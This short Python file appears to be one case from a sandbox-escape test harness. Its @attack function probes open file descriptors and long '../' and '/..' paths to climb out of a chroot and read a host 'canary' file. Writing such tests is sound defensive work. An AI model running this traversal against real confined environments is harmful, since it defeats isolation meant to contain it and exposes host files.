from attack import *

@attack
def read():
    """Climbs over the root by descriptor, as out of a chroot whose parent is still open."""
    found = []
    for number in range(256):
        try:
            os.stat("../../../../../../../.." + HOST["canary"], dir_fd=number)
            found.append(str(number))
        except (OSError, NotImplementedError):
            pass
    with open("/.." * 20 + HOST["canary"]) as file:
        return file.read(20) + " ".join(found)
